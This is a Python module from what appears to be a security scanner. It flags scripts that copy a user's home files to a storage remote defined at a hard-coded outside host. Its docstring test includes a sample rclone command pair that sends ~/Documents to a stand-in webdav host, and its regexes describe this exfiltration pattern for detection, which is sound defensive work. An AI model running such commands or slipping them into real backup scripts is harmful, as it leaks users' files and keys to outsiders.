"""The user's files copied to a storage remote that the script itself points at a host.

The family: a "backup" or "sync" script defines a remote with an address (and often the
password) it writes in, ``rclone config create NAME webdav url https://…`` or ``mc alias
set NAME https://…``, or hands ``aws s3`` an ``--endpoint-url``, and then copies the user's
documents, keys or home folder there. A remote the user configured is only named by the
script (``rclone copy ~/Documents nas:/docs``), and one on this machine or the local
network is the user's own: neither is a finding.

>>> script = '''rclone config create off webdav url https://dav.example-drop.invalid
... rclone copy ~/Documents off:/docs'''
>>> [(f.rule_id, f.line) for f in author_remote_findings("backup.sh", script)]
[('storage.author-remote', 2)]
>>> author_remote_findings("backup.sh", "rclone copy ~/Documents nas:/docs")
[]
"""

from __future__ import annotations

import re

from .destinations import is_internal
from .findings import ThreatFinding, line_finding

RULE_ID = "storage.author-remote"
_RCLONE_REMOTE = re.compile(r"\brclone\s+config\s+create\s+[\"']?([\w.-]+)[\"']?\s+\w+([^\n]*)")
_REMOTE_ADDRESS = re.compile(
    r"\b(?:url|host|endpoint|server)[=\s]+[\"']?(?:(?:https?|s?ftp|davs?)://)?([\w-]+(?:\.[\w-]+)+)"
)
_MINIO_ALIAS = re.compile(
    r"\bmc\s+(?:alias|config\s+host)\s+(?:set|add)\s+([\w.-]+)\s+https?://([\w.-]+)"
)
_USER_FILES = r"[\"']?(?:~|\$HOME|\$\{HOME\}|/home/|/Users/|%USERPROFILE%)[^\s\"']*[\"']?"
_RCLONE_COPY = re.compile(
    rf"\brclone\s+(?:copy|copyto|sync|move|moveto)\s+(?:-[\w-]+(?:[=\s]\S+)?\s+)*{_USER_FILES}\s+"
    r"[\"']?([\w.-]+):"
)
_MINIO_COPY = re.compile(
    rf"\bmc\s+(?:cp|mirror)\s+(?:--?[\w-]+\s+)*{_USER_FILES}\s+[\"']?([\w.-]+)/"
)
_S3_ENDPOINT_COPY = re.compile(
    rf"\baws\s+s3\s+(?:cp|sync|mv)\s+(?:--?[\w-]+\s+)*{_USER_FILES}\s[^\n]*--endpoint-url[=\s]+"
    r"[\"']?https?://([\w.-]+)"
)


def _defined_remotes(text: str) -> dict[str, str]:
    """Remote name -> the host the script gives it, for remotes defined in the script."""
    remotes = {}
    for match in _RCLONE_REMOTE.finditer(text):
        address = _REMOTE_ADDRESS.search(match.group(2))
        if address:
            remotes[match.group(1)] = address.group(1)
    for match in _MINIO_ALIAS.finditer(text):
        remotes[match.group(1)] = match.group(2)
    return remotes


def author_remote_findings(path: str, text: str) -> list[ThreatFinding]:
    """One finding at each copy of the user's files to a remote defined with a written,
    non-local host."""
    if "rclone" not in text and "mc " not in text and "--endpoint-url" not in text:
        return []
    remotes = _defined_remotes(text)
    lines = text.splitlines()
    findings = []
    for number, line in enumerate(lines, 1):
        host = None
        copied = _RCLONE_COPY.search(line) or _MINIO_COPY.search(line)
        if copied:
            host = remotes.get(copied.group(1))
        elif endpoint := _S3_ENDPOINT_COPY.search(line):
            host = endpoint.group(1)
        if host and not is_internal(host):
            findings.append(
                line_finding(
                    path,
                    lines,
                    number,
                    "8.2",
                    "high",
                    f"copies the user's files to a storage remote the script itself points at "
                    f"{host}",
                    RULE_ID,
                )
            )
    return findings
